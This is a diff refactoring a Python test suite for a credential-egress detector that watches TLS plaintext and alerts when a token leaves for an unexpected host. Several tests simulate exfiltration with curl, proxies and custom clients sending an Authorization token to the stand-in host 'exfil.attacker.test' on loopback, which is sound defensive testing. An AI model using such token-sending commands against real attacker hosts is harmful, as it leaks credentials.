@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
 """TLS egress: plaintext from the TLS library, attributed to the socket it goes out on."""
-import http.client
+import contextlib
 import os
 import shutil
 import socket
@@ -11,19 +11,12 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, BufferedWriter, LoopbackServer, Skip, assert_copying_stopped,
-                    conn_entry, github_token, h2_frame, h2_streams, hpack_literal, kernel_map,
-                    require_root, wait_until)
+from cwtest import (BufferedWriter, Closing, LoopbackServer, Skip, assert_copying_stopped,
+                    budget_holes, child_process, conn_entry, github_token, h2_frame, h2_streams,
+                    hpack_literal, kernel_map, own, require_root, running_agent, wait_own,
+                    wait_until)
 
 EVIL = "exfil.attacker.test"
-
-
-def wait_own(agent, token, action):
-    """Findings of `action` for this test's token only: anything else running on the host
-    is not ours to count."""
-    fp = agent.key.fingerprint(token)
-    return agent.wait_for(lambda l: l["event"]["action"] == action and
-                          l["credential"]["fingerprint"] == fp, timeout=15)
 
 
 def self_signed(d):
@@ -51,7 +44,7 @@ def client_ctx():
     return ctx
 
 
-class TlsServer:
+class TlsServer(Closing):
     """openssl s_server on a loopback port with a throwaway self-signed certificate."""
 
     def __init__(self):
@@ -75,24 +68,30 @@ class TlsServer:
         shutil.rmtree(self.dir, ignore_errors=True)
 
 
+class ServerProcess(Closing):
+    """A server program (argv, in directory cwd) that listens on a loopback port within half a
+    second of its start; killed on close."""
+
+    def __init__(self, argv, cwd=None):
+        self.proc = subprocess.Popen(argv, cwd=cwd, stdout=subprocess.DEVNULL,
+                                     stderr=subprocess.DEVNULL)
+        time.sleep(0.5)
+
+    def close(self):
+        self.proc.kill()
+        self.proc.wait()
+
+
 def run_client(args, with_stderr=False):
-    agent = Agent("--include-loopback", *args.get("agent_args", []))
-    srv = None
     token = github_token()
-    try:
-        srv = TlsServer()
+    with (running_agent("--include-loopback", *args.get("agent_args", [])) as agent,
+          TlsServer() as srv):
         pid = args["client"](srv.port, token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination", timeout=15)
+        agent.wait_for(lambda l: l["event"]["action"] ==
+                       "credential-unexpected-destination", timeout=15)
         time.sleep(0.5)	# anything more would be a duplicate: let it arrive
-    finally:
-        agent.stop()
-        if srv:
-            srv.close()
     # this test's token only: anything else running on the host is not ours to count
-    fp = agent.key.fingerprint(token)
-    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
-            and l["credential"]["fingerprint"] == fp]
+    hits = own(agent, token, "credential-unexpected-destination")
     assert len(hits) == 1, (hits, agent.stderr())
     a = hits[0]
     assert a["tls"]["library"] == args["library"], a
@@ -106,14 +105,22 @@ def run_client(args, with_stderr=False):
     return (a, agent.stderr()) if with_stderr else a
 
 
+@contextlib.contextmanager
+def curl_header(token):
+    """curl's -H argument for an Authorization header with the token, read from a file
+    (@FILE): the token is not in curl's argv. The file goes when the block ends."""
+    with tempfile.NamedTemporaryFile("w") as hdr:
+        hdr.write("Authorization: token %s\n" % token)
+        hdr.flush()
+        yield "@" + hdr.name
+
+
 def curl_client(port, token):
-    hdr = tempfile.NamedTemporaryFile("w", delete=False)
-    hdr.write("Authorization: token %s\n" % token)	# a header file: not in curl's argv
-    hdr.close()
-    p = subprocess.Popen(["curl", "-sk", "-o", "/dev/null", "-H", "@" + hdr.name, "--resolve",
-                          "%s:%d:127.0.0.1" % (EVIL, port), "https://%s:%d/v1" % (EVIL, port)])
-    p.wait()
-    os.unlink(hdr.name)
+    with curl_header(token) as hdr:
+        p = subprocess.Popen(["curl", "-sk", "-o", "/dev/null", "-H", hdr, "--resolve",
+                              "%s:%d:127.0.0.1" % (EVIL, port),
+                              "https://%s:%d/v1" % (EVIL, port)])
+        p.wait()
     return p.pid
 
 
@@ -234,15 +241,10 @@ def test_tls_library_seen_without_loopback_capture():
     """Loopback TCP is not watched by default, but TLS plaintext is: the server name then
     comes from the request's Host header."""
     require_root()
-    agent = Agent()
-    srv = TlsServer()
     token = github_token()
-    try:
+    with running_agent() as agent, TlsServer() as srv:
         curl_client(srv.port, token)
         hits = wait_own(agent, token, "credential-unexpected-destination")
-    finally:
-        agent.stop()
-        srv.close()
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["destination"]["domain"] == EVIL
     assert "ip" not in hits[0]["destination"]	# the socket was not tracked
@@ -256,36 +258,24 @@ def _h2_curl(prefix, curl_args, client=None):
     require_root()
     if not shutil.which("nghttpd"):
         raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
-    d = tempfile.mkdtemp(prefix=prefix)
-    cert, key = self_signed(d)
-    port = free_port()
     token = github_token()
-    agent = srv = None
-    try:
-        # the agent first: if it does not start, no server is left behind
-        agent = Agent("--include-loopback")
-        srv = subprocess.Popen(["nghttpd", "-d", d, str(port), key, cert],
-                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        time.sleep(0.5)
-        hdr = os.path.join(d, "hdr")
-        with open(hdr, "w") as f:
-            f.write("Authorization: token %s\n" % token)
-        common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
-                  "/dev/null"]
-        if client:
-            out = client(port, token)
-        else:
-            out = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port), common,
-                                                     "@" + hdr)],
-                                 capture_output=True, text=True).stdout
-        hits = wait_own(agent, token, "credential-unexpected-destination")
-    finally:
-        if agent:
-            agent.stop()
-        if srv:
-            srv.kill()
-            srv.wait()
-        shutil.rmtree(d, ignore_errors=True)
+    with tempfile.TemporaryDirectory(prefix=prefix, ignore_cleanup_errors=True) as d:
+        cert, key = self_signed(d)
+        port = free_port()
+        with (running_agent("--include-loopback") as agent,
+              ServerProcess(["nghttpd", "-d", d, str(port), key, cert])):
+            hdr = os.path.join(d, "hdr")
+            with open(hdr, "w") as f:
+                f.write("Authorization: token %s\n" % token)
+            common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
+                      "/dev/null"]
+            if client:
+                out = client(port, token)
+            else:
+                out = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port),
+                                                         common, "@" + hdr)],
+                                     capture_output=True, text=True).stdout
+            hits = wait_own(agent, token, "credential-unexpected-destination")
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["network"]["protocol"] == "http2"
     assert hits[0]["destination"]["domain"] == EVIL and hits[0]["destination"]["port"] == port
@@ -343,16 +333,13 @@ def test_go_http2_request_after_a_bulk_upload_on_the_same_connection():
     """Go's HTTP/2 transport (its own framer, writing through a buffer to crypto/tls) uploads
     2 MiB, then sends a request with a token on the same connection: past the payload budget,
     the session is followed frame by frame to the request's HEADERS frame, never lost."""
-    d = tempfile.mkdtemp(prefix="cw-goh2-")
-    try:
+    with tempfile.TemporaryDirectory(prefix="cw-goh2-", ignore_cleanup_errors=True) as d:
         _build_go(d, GO_H2_CLIENT)
 
         hits, agent, rc = _h2_curl("cw-goh2-srv-", None,
                                    client=lambda port, token: subprocess.run(
                                        [os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
                                        env={"TOKEN": token}, timeout=60).returncode)
-    finally:
-        shutil.rmtree(d, ignore_errors=True)
     assert rc == 0, rc	# both requests over HTTP/2
     assert hits[0]["tls"]["library"] == "go", hits[0]
     followed, lost = h2_streams(agent)
@@ -370,7 +357,7 @@ def test_curl_http2_request_after_a_bulk_upload_on_the_same_connection():
         return [*common, *w, "-T", big, url + "up", "--next", *common, *w, "-H", hdr, url + "v1"]
     _, agent, out = _h2_curl("cw-h2gap-", args)
     assert out.split("\n")[:2] == ["2 1", "2 0"], out	# h2, one connection
-    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
+    holes = budget_holes(agent)
     assert holes >= 1, agent.stderr()
     # curl's session was followed frame by frame through the upload, to the request after it
     followed, lost = h2_streams(agent)
@@ -421,21 +408,19 @@ def _build_go(d, src, stripped=False):
 
 
 def _go_client(stripped):
-    d = tempfile.mkdtemp(prefix="cw-go-")
-    _build_go(d, GO_CLIENT, stripped)
-    if stripped:
-        syms = subprocess.run(["nm", os.path.join(d, "client")], capture_output=True, text=True)
-        assert "crypto/tls" not in syms.stdout	# really stripped
+    with tempfile.TemporaryDirectory(prefix="cw-go-", ignore_cleanup_errors=True) as d:
+        _build_go(d, GO_CLIENT, stripped)
+        if stripped:
+            syms = subprocess.run(["nm", os.path.join(d, "client")], capture_output=True,
+                                  text=True)
+            assert "crypto/tls" not in syms.stdout	# really stripped
 
-    def client(port, token):
-        p = subprocess.Popen([os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
-                             env={"TOKEN": token})
-        assert p.wait(30) == 0
-        return p.pid
-    try:
+        def client(port, token):
+            p = subprocess.Popen([os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
+                                 env={"TOKEN": token})
+            assert p.wait(30) == 0
+            return p.pid
         run_client({"client": client, "library": "go"})
-    finally:
-        shutil.rmtree(d, ignore_errors=True)
 
 
 def test_go_crypto_tls():
@@ -460,28 +445,29 @@ c.getresponse().read()
 '''
 
 
+def _own_libssl():
+    """The path of the libssl this process has mapped (its ssl module is loaded)."""
+    with open("/proc/self/maps") as f:
+        return [l.split()[-1] for l in f if "libssl.so" in l][0]
+
+
 def _late_library_client(wrap):
     """A python client whose libssl is a private copy (a file the agent has never seen): it
     must be found from the process's own maps, through /proc/PID/root."""
-    import ssl as _ssl
-    libssl = [l.split()[-1] for l in open("/proc/self/maps") if "libssl.so" in l][0]
-    d = tempfile.mkdtemp(prefix="cw-lib-")
-    shutil.copy(libssl, os.path.join(d, os.path.basename(libssl)))
-    script = os.path.join(d, "client.py")
-    with open(script, "w") as f:
-        f.write(PY_LATE_CLIENT)
+    libssl = _own_libssl()
+    with tempfile.TemporaryDirectory(prefix="cw-lib-", ignore_cleanup_errors=True) as d:
+        shutil.copy(libssl, os.path.join(d, os.path.basename(libssl)))
+        script = os.path.join(d, "client.py")
+        with open(script, "w") as f:
+            f.write(PY_LATE_CLIENT)
 
-    def client(port, token):
-        cmd = wrap(d, libssl, [__import__("sys").executable, script, str(port), EVIL])
-        p = subprocess.Popen(cmd, env={"TOKEN": token, "LD_LIBRARY_PATH": d,
-                                       "PATH": os.environ["PATH"]})
-        assert p.wait(30) == 0
-        return None
-    try:
+        def client(port, token):
+            cmd = wrap(d, libssl, [sys.executable, script, str(port), EVIL])
+            p = subprocess.Popen(cmd, env={"TOKEN": token, "LD_LIBRARY_PATH": d,
+                                           "PATH": os.environ["PATH"]})
+            assert p.wait(30) == 0
+            return None
         return run_client({"client": client, "library": "openssl"}, with_stderr=True)
-    finally:
-        shutil.rmtree(d, ignore_errors=True)
-    del _ssl
 
 
 def test_library_mapped_after_start_is_picked_up():
@@ -507,31 +493,19 @@ def test_library_in_a_separate_mount_namespace_is_picked_up():
 def test_capture_inbound_sees_credentials_received():
     """With --capture-inbound, a credential in a TLS response is observed (never an alert)."""
     require_root()
-    d = tempfile.mkdtemp(prefix="cw-in-")
-    cert, key = self_signed(d)
     token = github_token()
-    with open(os.path.join(d, "creds.txt"), "w") as f:
-        f.write("issued: %s\n" % token)
-    port = free_port()
-    agent = srv = None
-    try:
-        # the agent first: if it does not start, no server is left behind
-        agent = Agent("--capture-inbound", "--events")
-        srv = subprocess.Popen(["openssl", "s_server", "-accept", str(port), "-cert", cert,
-                                "-key", key, "-WWW", "-quiet"], cwd=d,
-                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        time.sleep(0.5)
-        p = subprocess.run(["curl", "-sk", "https://127.0.0.1:%d/creds.txt" % port],
-                           capture_output=True, text=True)
-        assert token in p.stdout	# the client really received it
-        hits = wait_own(agent, token, "credential-received")
-    finally:
-        if agent:
-            agent.stop()
-        if srv:
-            srv.kill()
-            srv.wait()
-        shutil.rmtree(d, ignore_errors=True)
+    with tempfile.TemporaryDirectory(prefix="cw-in-", ignore_cleanup_errors=True) as d:
+        cert, key = self_signed(d)
+        with open(os.path.join(d, "creds.txt"), "w") as f:
+            f.write("issued: %s\n" % token)
+        port = free_port()
+        with (running_agent("--capture-inbound", "--events") as agent,
+              ServerProcess(["openssl", "s_server", "-accept", str(port), "-cert", cert,
+                             "-key", key, "-WWW", "-quiet"], cwd=d)):
+            p = subprocess.run(["curl", "-sk", "https://127.0.0.1:%d/creds.txt" % port],
+                               capture_output=True, text=True)
+            assert token in p.stdout	# the client really received it
+            hits = wait_own(agent, token, "credential-received")
     assert len(hits) == 1, agent.stderr()
     h = hits[0]
     assert h["event"]["kind"] == "event"
@@ -546,10 +520,8 @@ def test_sequential_sessions_in_one_process_get_their_own_destination():
     """A process that closes one TLS connection and opens another: its library may reuse the
     session object's address; each connection's credential goes with its own server name."""
     require_root()
-    agent = Agent("--include-loopback", "--events")
-    srv = TlsServer()
     token = github_token()
-    try:
+    with running_agent("--include-loopback", "--events") as agent, TlsServer() as srv:
         ctx = client_ctx()
         for host in ("api.github.com", EVIL, "api.github.com"):
             raw = socket.create_connection(("127.0.0.1", srv.port))
@@ -562,9 +534,6 @@ def test_sequential_sessions_in_one_process_get_their_own_destination():
         fp = agent.key.fingerprint(token)
         agent.wait_for(lambda l: l.get("credential", {}).get("fingerprint") == fp, count=3,
                        timeout=15)
-    finally:
-        agent.stop()
-        srv.close()
     fp = agent.key.fingerprint(token)
     mine = [l for l in agent.lines if l.get("credential", {}).get("fingerprint") == fp
             and l["event"]["action"] in ("credential-sent", "credential-unexpected-destination")]
@@ -578,25 +547,19 @@ def test_library_is_probed_when_it_is_opened():
     dynamic loader's openat), before any connect: the first write of a program that starts
     and sends at once is not missed."""
     require_root()
-    import ssl as _ssl
-    libssl = [l.split()[-1] for l in open("/proc/self/maps") if "libssl.so" in l][0]
-    del _ssl
-    d = tempfile.mkdtemp(prefix="cw-open-")
-    copy = os.path.join(d, os.path.basename(libssl))
-    shutil.copy(libssl, copy)
-    agent = Agent("-v")
-    try:
-        # loads the library and never connects anywhere
-        subprocess.run([__import__("sys").executable, "-c",
-                        f"import ctypes, time; ctypes.CDLL({copy!r}); time.sleep(1)"],
-                       check=True, timeout=30)
-        assert agent.wait_err(f"TLS probes attached to /proc/", 10), agent.stderr()[-1500:]
-        attached = [l for l in agent.stderr().splitlines()
-                    if "TLS probes attached to" in l and l.rstrip().split(" (")[0].endswith(copy)]
-        assert attached, agent.stderr()[-1500:]
-    finally:
-        agent.stop()
-        shutil.rmtree(d, ignore_errors=True)
+    libssl = _own_libssl()
+    with tempfile.TemporaryDirectory(prefix="cw-open-", ignore_cleanup_errors=True) as d:
+        copy = os.path.join(d, os.path.basename(libssl))
+        shutil.copy(libssl, copy)
+        with running_agent("-v") as agent:
+            # loads the library and never connects anywhere
+            subprocess.run([sys.executable, "-c",
+                            f"import ctypes, time; ctypes.CDLL({copy!r}); time.sleep(1)"],
+                           check=True, timeout=30)
+            assert agent.wait_err("TLS probes attached to /proc/", 10), agent.stderr()[-1500:]
+            attached = [l for l in agent.stderr().splitlines() if "TLS probes attached to" in l
+                        and l.rstrip().split(" (")[0].endswith(copy)]
+            assert attached, agent.stderr()[-1500:]
 
 
 class TlsSink(LoopbackServer):
@@ -627,30 +590,24 @@ def _budgets(agent, pid):
     return [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == pid]
 
 
+def tls_connect(port, server_name=EVIL):
+    """A TLS client connection to a loopback port, taking any certificate, with server_name
+    in its ClientHello; `with tls_connect(port) as s:` closes it when the block ends."""
+    return client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", port)),
+                                    server_hostname=server_name)
+
+
 def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open():
     """A keep-alive connection goes quiet after a request whose token is the last thing in
     it: the alert comes within a second or so, not when the connection closes."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
     token = github_token()
-    ctx = client_ctx()
-    s = None
-    try:
-        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                            server_hostname=EVIL)
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          tls_connect(sink.port) as s):
         s.sendall(b"GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n"
                   % (EVIL.encode(), token.encode()))
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=5)
+        hits = wait_own(agent, token, "credential-unexpected-destination", timeout=5)
         assert s.fileno() >= 0	# still open
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        sink.close()
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["destination"]["port"] == sink.port
     agent.assert_no_plaintext(token)
@@ -658,26 +615,15 @@ def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open(
 
 def _tls_session(send):
     """A client session over TLS to a loopback sink (server name EVIL): send(sock, token,
-    authority) writes it, authority being an HPACK :authority field for h2. Asserts that exactly the token is alerted on, from OpenSSL, with the
-    server name, and never in plaintext; returns the stopped agent."""
+    authority) writes it, authority being an HPACK :authority field for h2. Asserts that
+    exactly the token is alerted on, from OpenSSL, with the server name, and never in
+    plaintext; returns the stopped agent."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
     token = github_token()
-    s = None
-    try:
-        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                                     server_hostname=EVIL)
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          tls_connect(sink.port) as s):
         send(s, token, hpack_literal(b":authority", EVIL.encode()))
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=5)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        sink.close()
+        hits = wait_own(agent, token, "credential-unexpected-destination", timeout=5)
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["tls"]["library"] == "openssl"
     assert hits[0]["destination"]["domain"] == EVIL
@@ -699,7 +645,7 @@ def test_request_in_one_large_write_with_its_body_after_others_like_it():
                       b"Content-Length: %d\r\n\r\n" % (EVIL.encode(), auth.encode(), len(body))
                       + body)
     agent = _tls_session(send)
-    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
+    holes = budget_holes(agent)
     assert holes >= 1, agent.stderr()
 
 
@@ -742,19 +688,10 @@ def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
     the kernel copies the ClientHello (its server name) and marks the connection so that
     nothing more of it is copied; the plaintext comes from the TLS probes."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    s = None
-    try:
-        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                                     server_hostname=EVIL)
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          tls_connect(sink.port) as s):
         s.sendall(b"z" * (256 << 10))
         entry = conn_entry(agent, s)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        sink.close()
     # the ClientHello, not a single 16 KiB TLS record of the ciphertext
     assert_copying_stopped(entry)
 
@@ -849,29 +786,16 @@ def test_curl_through_an_http_connect_proxy():
     TLS ClientHello comes after the proxy's answer. The credential is alerted on once, from
     the TLS plaintext, with the server name the client asked for and the proxy's address."""
     require_root()
-    agent = Agent("--include-loopback")
-    srv = TlsServer()
-    proxy = ConnectProxy(srv.port)
     token = github_token()
-    hdr = tempfile.NamedTemporaryFile("w", delete=False)
-    try:
-        hdr.write("Authorization: token %s\n" % token)
-        hdr.close()
-        subprocess.run(["curl", "-sk", "-o", "/dev/null", "-H", "@" + hdr.name, "-x",
+    with (running_agent("--include-loopback") as agent, TlsServer() as srv,
+          ConnectProxy(srv.port) as proxy, curl_header(token) as hdr):
+        subprocess.run(["curl", "-sk", "-o", "/dev/null", "-H", hdr, "-x",
                         "http://127.0.0.1:%d" % proxy.port, "https://%s/v1" % EVIL],
                        check=True, timeout=20)
-        fp = agent.key.fingerprint(token)
-        agent.wait_for(lambda l: l["event"]["action"] == "credential-unexpected-destination"
-                       and l["credential"]["fingerprint"] == fp, timeout=10)
+        wait_own(agent, token, "credential-unexpected-destination", timeout=10)
         time.sleep(0.5)	# a duplicate from the tunnel's bytes would come now
-    finally:
-        os.unlink(hdr.name)
-        agent.stop()
-        proxy.close()
-        srv.close()
     assert proxy.requests == [b"CONNECT %s:443 HTTP/1.1" % EVIL.encode()], proxy.requests
-    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
-            and l["credential"]["fingerprint"] == fp]
+    hits = own(agent, token, "credential-unexpected-destination")
     assert len(hits) == 1, (hits, agent.stderr())
     a = hits[0]
     assert a["tls"]["library"] == "openssl", a
@@ -886,32 +810,20 @@ def test_tls_through_a_socks5_proxy_names_the_server_from_the_client_hello():
     plaintext either; the TLS ClientHello after the handshake does (SNI): the alert has that
     server name and the proxy's address."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    proxy = Socks5Proxy(sink.port)
     token = github_token()
-    s = None
-    try:
-        raw = socket.create_connection(("127.0.0.1", proxy.port))
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          Socks5Proxy(sink.port) as proxy,
+          socket.create_connection(("127.0.0.1", proxy.port)) as raw):
         raw.sendall(b"\x05\x01\x00")
         assert raw.recv(2) == b"\x05\x00"
         raw.sendall(b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() +
                     (443).to_bytes(2, "big"))
         assert raw.recv(10)[:2] == b"\x05\x00"
-        s = client_ctx().wrap_socket(raw, server_hostname=EVIL)
-        s.sendall(b"AUTH %s\n" % token.encode())	# a line protocol: no Host header
-        fp = agent.key.fingerprint(token)
-        agent.wait_for(lambda l: l["event"]["action"] == "credential-unexpected-destination"
-                       and l["credential"]["fingerprint"] == fp, timeout=10)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        proxy.close()
-        sink.close()
+        with client_ctx().wrap_socket(raw, server_hostname=EVIL) as s:
+            s.sendall(b"AUTH %s\n" % token.encode())	# a line protocol: no Host header
+            wait_own(agent, token, "credential-unexpected-destination", timeout=10)
     assert proxy.requests == [EVIL.encode()], proxy.requests
-    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
-            and l["credential"]["fingerprint"] == fp]
+    hits = own(agent, token, "credential-unexpected-destination")
     assert len(hits) == 1, (hits, agent.stderr())
     assert hits[0]["tls"]["library"] == "openssl", hits[0]
     assert hits[0]["destination"]["domain"] == EVIL, hits[0]
@@ -924,24 +836,15 @@ def test_tcp_capture_of_a_tunnel_stops_after_its_client_hello():
     ClientHello and ciphertext: the kernel stops copying after the ClientHello, wherever in
     the connection it comes, as it does when the ClientHello is the first write."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    proxy = ConnectProxy(sink.port)
-    s = None
-    try:
-        raw = socket.create_connection(("127.0.0.1", proxy.port))
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          ConnectProxy(sink.port) as proxy,
+          socket.create_connection(("127.0.0.1", proxy.port)) as raw):
         raw.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
                     % (EVIL.encode(), EVIL.encode()))
         assert raw.recv(4096).startswith(b"HTTP/1.1 200")
-        s = client_ctx().wrap_socket(raw, server_hostname=EVIL)
-        s.sendall(b"z" * (256 << 10))
-        entry = conn_entry(agent, s)
-    finally:
-        if s:
-            s.close()
-        agent.stop()
-        proxy.close()
-        sink.close()
+        with client_ctx().wrap_socket(raw, server_hostname=EVIL) as s:
+            s.sendall(b"z" * (256 << 10))
+            entry = conn_entry(agent, s)
     # the CONNECT request and the ClientHello, not the ciphertext's 64 KiB payload budget
     assert_copying_stopped(entry)
 
@@ -952,13 +855,9 @@ def test_ended_session_leaves_no_payload_budget_behind():
     may put the next session's object at the same address, and that session must start with
     a whole budget, not one an upload before it used up."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    ctx = client_ctx()
     me = os.getpid()
-    try:
-        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
-                            server_hostname="uploads.example.test")
+    with running_agent("--include-loopback") as agent, TlsSink() as sink:
+        s = tls_connect(sink.port, "uploads.example.test")
         for _ in range(6):
             s.sendall(b"x" * 16384)
         time.sleep(0.3)
@@ -967,9 +866,6 @@ def test_ended_session_leaves_no_payload_budget_behind():
         s.close()
         wait_until(lambda: not _budgets(agent, me), 5)
         left = _budgets(agent, me)
-    finally:
-        agent.stop()
-        sink.close()
     assert not left, left
 
 
@@ -993,12 +889,9 @@ def test_sessions_of_an_image_end_when_the_process_execs():
     no close() the probes see. The agent ends them at the exec: their kernel budget counts go,
     while the process runs on."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = TlsSink()
-    child = None
-    try:
-        child = subprocess.Popen([sys.executable, "-c", TLS_THEN_EXEC, str(sink.port)],
-                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    with (running_agent("--include-loopback") as agent, TlsSink() as sink,
+          child_process([sys.executable, "-c", TLS_THEN_EXEC, str(sink.port)],
+                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child):
         assert child.stdout.readline().strip() == "sent"
         time.sleep(0.3)
         assert _budgets(agent, child.pid), "the session was never counted"
@@ -1008,9 +901,4 @@ def test_sessions_of_an_image_end_when_the_process_execs():
         wait_until(lambda: not _budgets(agent, child.pid), 2)
         left = _budgets(agent, child.pid)
         assert child.poll() is None
-    finally:
-        if child and child.poll() is None:
-            child.kill()
-        agent.stop()
-        sink.close()
     assert not left, left
